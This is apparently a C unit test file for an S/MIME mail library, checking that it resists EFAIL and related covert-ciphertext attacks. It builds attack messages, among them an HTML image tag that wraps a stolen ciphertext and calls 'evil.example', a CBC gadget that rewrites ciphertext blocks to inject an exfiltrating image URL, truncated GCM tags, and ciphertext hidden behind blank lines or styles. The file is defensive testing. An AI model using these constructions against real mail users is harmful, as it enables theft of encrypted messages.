/* test_attack_covert.c - ciphertext in a mail that is not its sender's
 *
 * EFAIL (2018): direct exfiltration, and gadgets that change what comes out of
 * a cipher; "Re: what's up Johnny?" (2019): old ciphertext hidden in a new
 * mail, for the victim to decrypt and send back. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdlib.h>
#include <cmocka.h>

#include "tests/flow/attack_desk.h"

/* EFAIL: encrypted text between the halves of an image's address; and the
 * covert content attacks: old ciphertext hidden in a new mail. */
static void ciphertext_beside_others(void **state)
{
	const char *secret = forge_encrypted("Content-Type: text/plain\r\n\r\n"
					     "the secret\r\n",
					     EVP_aes_256_cbc());
	const char *kinds[] = { "mixed", "alternative", "related", "digest",
				"parallel", "x-own" };
	size_t i;

	(void)state;
	partly(mixed("mixed", HTML "<img src=\"http://evil.example/", secret,
		     HTML "\">"));
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	for (i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		partly(mixed(kinds[i], EVIL, secret, NULL));
		assert_null(strstr(buf_string(&seal.content), "the secret"));
		partly(mixed(kinds[i], secret, EVIL, NULL));
		assert_null(strstr(buf_string(&seal.content), "the secret"));
	}
	/* Within a message within. */
	unprotected(HEAD, mixed("mixed", EVIL, arena_print(desk.arena,
		    "Content-Type: message/rfc822\r\n\r\n" HEAD "%s",
		    secret), NULL), "none");
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	/* Signed by the attacker around it, and encrypted once more. */
	assert_int_equal(forge_read(HEAD, forge_encrypted(mixed("mixed", EVIL,
			 secret, NULL), EVP_aes_256_gcm())), 0);
	is("security", "encrypted");
	assert_true(seal_has_reason("sealed-within"));
	assert_null(strstr(buf_string(&seal.content), "the secret"));
	/* By its number it is opened, as a document of its own. */
	seal.part = "2";
	assert_int_equal(forge_read(HEAD, mixed("mixed", EVIL, secret,
						NULL)), 0);
	seal.part = NULL;
	is("covers", "part");
	assert_string_equal(buf_string(&seal.content), "Content-Type: "
			    "text/plain\r\n\r\nthe secret\r\n");
	seal.part = "7.1";
	assert_int_equal(forge_read(HEAD, mixed("mixed", EVIL, secret,
						NULL)), 0);
	seal.part = NULL;
	assert_true(seal_has_reason("no-such-part"));
	assert_false(seal.left);
}

/* The attacker's signature around somebody's ciphertext. */
static void signed_around_ciphertext(void **state)
{
	const char *secret = forge_encrypted("Content-Type: text/plain\r\n\r\n"
					     "the secret\r\n",
					     EVP_aes_256_gcm());
	const char *sealed = forge_signed(secret, forge_signature(&desk.alice,
		secret, CMS_DETACHED | CMS_BINARY));

	(void)state;
	assert_int_equal(forge_read(HEAD, sealed), 0);
	is("security", "encrypted");
	is("signature.status", "good");
	assert_true(seal_has_reason("signed-outside"));
	/* Bad around CBC: what came out may be anything. */
	secret = forge_encrypted("Content-Type: text/plain\r\n\r\nthe secret",
				 EVP_aes_256_cbc());
	assert_int_equal(forge_read(HEAD, forge_signed(secret,
		forge_signature(&desk.alice, EVIL, CMS_DETACHED |
				CMS_BINARY))), 0);
	is("security", "encrypted");
	assert_false(seal.left);
}

/* The object in desk.blob, its tag so many octets shorter, and all lengths of
 * what is around it. */
static void tag_cut(size_t by)
{
	static const size_t lengths[] = { 2, 19, 23 };	/* behind 82 each */
	unsigned char *at = desk.blob.data;
	size_t i, len;

	at[desk.blob.len - 17] = (unsigned char)(16 - by);
	for (i = 0; i < sizeof(lengths) / sizeof(lengths[0]); i++) {
		at = desk.blob.data + lengths[i];
		assert_int_equal(at[-1], 0x82);
		len = (size_t)(at[0] << 8 | at[1]) - by;
		at[0] = (unsigned char)(len >> 8);
		at[1] = (unsigned char)len;
	}
	desk.blob.len -= by;
}

/* A tag that is shorter than the parameters say can be guessed. */
static void tag_cut_short(void **state)
{
	size_t by;

	(void)state;
	for (by = 0; by <= 16; by++) {
		(void)forge_encrypted(SECRET, EVP_aes_256_gcm());
		tag_cut(by);
		assert_int_equal(forge_read(HEAD, arena_print(desk.arena,
			"Content-Type: application/pkcs7-mime; "
			"smime-type=authEnveloped-data\r\n"
			"Content-Transfer-Encoding: base64\r\n\r\n%s",
			forge_base64(buf_bytes(&desk.blob)))), 0);
		is("encryption.status", by == 0 ? "opened" : "damaged");
		assert_int_equal(seal.left, by == 0);
	}
}

/* The octets of the content of Bob's `text` in `cipher`, after `change`. */
static const char *changed(const char *text, const EVP_CIPHER *cipher,
			   bool (*change)(unsigned char *iv,
					  unsigned char *content, int len))
{
	static const unsigned char aes[8] = { 0x60, 0x86, 0x48, 0x01, 0x65,
					      0x03, 0x04, 0x01 };
	STACK_OF(X509) *list = sk_X509_new_null();
	BIO *in = BIO_new_mem_buf(text, -1);
	CMS_ContentInfo *cms;
	unsigned char *der = NULL;
	ASN1_OCTET_STRING **content;
	int len, i, iv_len = EVP_CIPHER_get_iv_length(cipher);
	unsigned char iv[16];

	(void)sk_X509_push(list, desk.bob.certificate);
	cms = CMS_encrypt(list, in, cipher, CMS_BINARY);
	len = i2d_CMS_ContentInfo(cms, &der);
	for (i = 0; i + 30 < len; i++)
		if (memcmp(der + i, aes, sizeof(aes)) == 0 &&
		    der[i + 9] == 0x04 && der[i + 10] == iv_len)
			memcpy(iv, der + i + 11, (size_t)iv_len);
	content = CMS_get0_content(cms);
	assert_non_null(content);
	if (change != NULL)
		assert_true(change(iv, (*content)->data, (*content)->length));
	OPENSSL_free(der);
	sk_X509_free(list);
	BIO_free(in);
	return arena_print(desk.arena,
		"Content-Type: application/pkcs7-mime; "
		"smime-type=enveloped-data; name=smime.p7m\r\n"
		"Content-Transfer-Encoding: base64\r\n\r\n%s",
		forge_cms(cms));
}

#define BLOCK	16
/* Where what is known of the text stands: whole blocks of the header. */
#define KNOWN	"Content-Type: te"

/* The gadget of EFAIL: C0 once more, behind a block that makes of it what the
 * attacker wants, in place of the last but two. */
static bool gadget(unsigned char *iv, unsigned char *content, int len)
{
	static const char wanted[BLOCK + 1] = "<img src=//e.ex/";
	int at = len - 4 * BLOCK, i;

	if (at < 3 * BLOCK)
		return false;
	for (i = 0; i < BLOCK; i++)
		content[at + i] = (unsigned char)(iv[i] ^ KNOWN[i] ^
						  wanted[i]);
	memcpy(content + at + BLOCK, content, BLOCK);
	return true;
}

static bool flipped(unsigned char *iv, unsigned char *content, int len)
{
	(void)iv;
	content[len / 2] ^= 1;
	return true;
}

#define LONG	KNOWN "xt/plain\r\n\r\n" \
		"The secret is long enough that blocks of it may be\r\n" \
		"exchanged for others by who does not know it at all,\r\n" \
		"and nothing in the cipher would tell of that.\r\n"

/* EFAIL: what a cipher without integrity gives is never more than that. */
static void cipher_gadgets(void **state)
{
	const char *sealed;

	(void)state;
	assert_int_equal(forge_read(HEAD, changed(LONG, EVP_aes_256_cbc(),
						  gadget)), 0);
	/* It came out, as it does for everybody: here it says so. */
	assert_true(seal.left);
	assert_non_null(memmem(seal.content.data, seal.content.len,
			       "<img src=//e.ex/", BLOCK));
	is("security", "encrypted");
	is("encryption.integrity", "none");
	assert_true(seal_has_reason("content-unprotected"));
	/* Inside a signature of the sender's it does not come out. */
	sealed = forge_opaque(&desk.alice, LONG);
	assert_int_equal(forge_read(HEAD, changed(sealed, EVP_aes_256_cbc(),
						  flipped)), 0);
	is("security", "encrypted");
	assert_string_not_equal(seal_word("signature.status"), "good");
	assert_false(seal.left);
	assert_int_equal(seal.content.len, 0);
	/* Nor where the cipher itself sees it. */
	assert_int_equal(forge_read(HEAD, changed(LONG, EVP_aes_256_gcm(),
						  flipped)), 0);
	is("encryption.status", "damaged");
	assert_false(seal.left);
	assert_int_equal(forge_read(HEAD, changed(LONG, EVP_aes_256_gcm(),
						  NULL)), 0);
	is("encryption.integrity", "aead");
}

/* Covert, by layers: the old ciphertext encrypted once more and hidden behind
 * blank lines, by a style, in a message within. */
static void covert_by_layers(void **state)
{
	const char *secret = forge_encrypted(SECRET, EVP_aes_256_cbc());
	const char *lines = arena_print(desk.arena, "Content-Type: text/plain"
		"\r\n\r\nShall we meet?\r\n%0*d", 2000, 0);
	const char *style = HTML "<style>.x{display:none}</style><p>Shall we "
		"meet?</p><div class=x>";
	const char *within = arena_print(desk.arena, "Content-Type: "
		"message/rfc822\r\n\r\n" HEAD "%s", secret);
	const char *inside[4];
	size_t i;

	(void)state;
	inside[0] = mixed("mixed", lines, secret, NULL);
	inside[1] = mixed("mixed", style, secret, HTML "</div>");
	inside[2] = mixed("related", style, within, NULL);
	inside[3] = mixed("alternative", EVIL, mixed("mixed", EVIL, secret,
						     NULL), NULL);
	for (i = 0; i < 4; i++) {
		unprotected(HEAD, inside[i], "none");
		assert_null(strstr(buf_string(&seal.content), "the secret"));
		/* Signed by the attacker, then encrypted to the victim. */
		assert_int_equal(forge_read(HEAD, forge_encrypted(
			forge_opaque(&desk.alice, inside[i]),
			EVP_aes_256_gcm())), 0);
		assert_true(seal_has_reason("sealed-within"));
		assert_null(strstr(buf_string(&seal.content), "the secret"));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ciphertext_beside_others),
		cmocka_unit_test(tag_cut_short),
		cmocka_unit_test(signed_around_ciphertext),
		cmocka_unit_test(cipher_gadgets),
		cmocka_unit_test(covert_by_layers),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
